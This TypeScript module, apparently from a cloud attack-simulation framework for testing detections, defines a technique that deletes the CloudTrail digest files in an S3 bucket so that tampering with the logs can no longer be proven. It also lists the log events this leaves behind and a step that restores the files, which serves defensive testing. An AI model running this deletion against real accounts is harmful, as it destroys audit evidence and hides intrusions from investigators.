import { z } from 'zod';
import { putBackObjects } from '../../../put-back-objects.ts';
import type { AttackTechnique } from '../../../technique.ts';

const inputs = z.object({ bucket: z.string().min(3).max(63) });

/** Without the digests nobody can prove that no page is missing. */
export const technique: AttackTechnique<z.infer<typeof inputs>> = {
  id: 'defense-evasion.trail-digests-deleted',
  title: 'Delete the digest files of a trail',
  purpose: 'Log files that were changed or removed can no longer be told from those that were not.',
  mitre: ['T1070'],
  awsThreatTechniques: ['T1485.A003'],
  sources: [
    {
      title: 'Indicator Removal, MITRE ATT&CK',
      url: 'https://attack.mitre.org/techniques/T1070/',
    },
    {
      title: 'T1485.A003, Threat Technique Catalog for AWS',
      url: 'https://aws-samples.github.io/threat-technique-catalog-for-aws/Techniques/T1485.A003.html',
    },
    {
      title: 'DeleteObject, Amazon S3 API Reference',
      url: 'https://docs.aws.amazon.com/AmazonS3/latest/API/API_DeleteObject.html',
    },
  ],
  inputs,
  actsAs: 'insider',
  needsStage: { bucket: { holdsTrailFiles: true } },
  needs: ['s3:ListBucket', 's3:DeleteObject'],
  leaves: [
    { service: 's3.amazonaws.com', name: 'ListObjects', outcome: 'succeeds' },
    { service: 's3.amazonaws.com', name: 'DeleteObject', outcome: 'succeeds', times: 2 },
  ],
  repeatable: false,
  async detonate({ inputs: { bucket }, aws, signal, say }) {
    const { Contents = [] } = await aws.s3().listObjectsV2({ Bucket: bucket, Prefix: 'AWSLogs/' });
    const files = Contents.filter(({ Key }) => Key?.includes(FOLDER) === true);
    say(`Delete ${files.length} files of ${bucket}`);
    for (const { Key } of files) {
      signal.throwIfAborted();
      await aws.s3().deleteObject({ Bucket: bucket, Key });
    }
  },
  undo: putBackObjects(({ bucket }) => ({ bucket, prefix: 'AWSLogs/' })),
};

/** Source: CloudTrail User Guide, "Finding your CloudTrail log files". */
const FOLDER = '/CloudTrail-Digest/';
